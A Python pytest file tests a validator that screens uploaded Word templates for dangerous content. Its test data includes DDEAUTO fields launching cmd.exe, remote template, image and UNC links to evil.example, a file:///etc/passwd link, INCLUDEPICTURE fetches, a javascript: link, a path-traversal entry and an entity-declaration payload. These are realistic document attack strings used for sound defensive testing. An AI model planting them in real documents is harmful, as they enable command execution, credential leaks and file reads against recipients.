"""What a document of Word from a stranger may hold."""

import pytest

from chalicelib.kit.archives import MEGABYTE
from chalicelib.papers import gateway
from chalicelib.papers.model import Kind
from chalicelib.papers.rules import fields, inside
from chalicelib.papers.service import presets
from tests.make import papers as make

PLAIN = make.template('Акт {{ document.number }}')
RELS = 'word/_rels/document.xml.rels'
OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'


def codes(body):
    return [str(one.code) for one in inside.problems(body)]


def linking(kind, target, name=RELS, mode='External'):
    link = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    rels = make.part(PLAIN, RELS).decode().replace('</Relationships>', link + '</Relationships>')
    return make.with_parts(PLAIN, **{name: rels.encode()})


def saying(xml):
    document = make.part(PLAIN, 'word/document.xml').decode()
    return make.with_parts(
        PLAIN, **{'word/document.xml': document.replace('<w:body>', f'<w:body>{xml}').encode()}
    )


def test_text_tables_and_links_of_the_web_pass():
    assert codes(PLAIN) == []
    assert codes(linking('hyperlink', 'https://domovoy.example')) == []
    assert codes(linking('hyperlink', 'mailto:a@b.example')) == []
    assert codes(saying('<w:p><w:r><w:instrText> PAGE </w:instrText></w:r></w:p>')) == []
    for kind in Kind:
        assert codes(presets.body(kind)) == []


@pytest.mark.parametrize(
    ('body', 'code'),
    [
        (make.with_parts(PLAIN, **{'word/vbaProject.bin': b'x'}), 'macros'),
        (
            make.with_parts(
                PLAIN,
                **{'[Content_Types].xml': make.part(PLAIN, '[Content_Types].xml').replace(
                    b'document.main+xml', b'document.macroEnabled.main+xml')},
            ),
            'macros',
        ),
        (make.with_parts(PLAIN, **{'word/embeddings/oleObject1.bin': b'x'}), 'embedded'),
        (make.with_parts(PLAIN, **{'word/activeX/activeX1.xml': b'<a/>'}), 'embedded'),
        (saying('<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>'), 'embedded'),
        (saying('<w:altChunk r:id="rId99"/>'), 'embedded'),
        (linking('attachedTemplate', 'https://evil.example/a.dotm'), 'external'),
        (linking('image', 'https://evil.example/a.png'), 'external'),
        (linking('image', 'file:///etc/passwd', mode='external'), 'external'),
        (linking('hyperlink', 'file://evil.example/share'), 'external'),
        (linking('hyperlink', 'javascript:alert(1)'), 'external'),
        (linking('frame', r'\\\\evil.example\share'), 'external'),
        (linking('attachedTemplate', 'https://evil.example', 'word/_rels/settings.xml.rels'), 'external'),
        (saying('<w:p><w:r><w:instrText>DDEAUTO c:\\cmd.exe</w:instrText></w:r></w:p>'), 'dangerous_field'),
        (
            saying(
                '<w:p><w:r><w:instrText>DD</w:instrText></w:r>'
                '<w:r><w:instrText>E cmd</w:instrText></w:r></w:p>'
            ),
            'dangerous_field',
        ),
        (saying('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/a"/>'), 'dangerous_field'),
        (saying('<w:p><x:instrText xmlns:x="NS">&#68;DE cmd</x:instrText></w:p>'), 'dangerous_field'),
        (saying('<w:fldSimple w:instr="{{ client.name }}"/>'), 'dangerous_field'),
        (saying('<x:control xmlns:x="urn:any"/>'), 'embedded'),
        (linking('oleObject', 'media/a.bin', mode='Internal'), 'embedded'),
        (make.with_parts(PLAIN, **{'word/two': b'<a><instrText>DDE a</instrText></a>'}), 'dangerous_field'),
        (make.with_parts(PLAIN, **{'word/a.bin': b'\n<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), 'broken'),
        (make.with_parts(PLAIN, **{'word/a.xml': '<a/>'.encode('utf-16')}), 'broken'),
        (make.with_parts(PLAIN, **{'word/a.xml': b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), 'broken'),
        (make.with_parts(PLAIN, **{'../../app.py': b'x'}), 'broken'),
        (make.with_parts(PLAIN, **{'word/a.xml': b' ' * 21 * MEGABYTE}), 'too_large'),
        (make.with_parts(PLAIN, **{f'word/{n}.xml': b'' for n in range(500)}), 'too_large'),
        (PLAIN + b'x' * 2 * MEGABYTE, 'too_large'),
        (PLAIN[:-40], 'broken'),
        (b'Word', 'broken'),
    ],
)  # fmt: skip
def test_what_acts_fetches_or_bursts_is_refused(body, code):
    assert codes(body) == [code]


def test_what_conditions_bring_together_is_found_in_the_filled_document():
    hidden = (
        '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:t>{%r if not client.name %}</w:t></w:r>'
        '<w:r><w:instrText>X</w:instrText></w:r><w:r><w:t>{%r endif %}</w:t></w:r>'
        '<w:r><w:instrText>E cmd</w:instrText></w:r></w:p>'
    )
    template = saying(hidden)
    assert codes(template) == []
    assert [str(one.code) for one in inside.acting(gateway.judge(template, fields.example()))] == [
        'dangerous_field'
    ]
    assert inside.acting(gateway.judge(PLAIN, fields.example())) == []
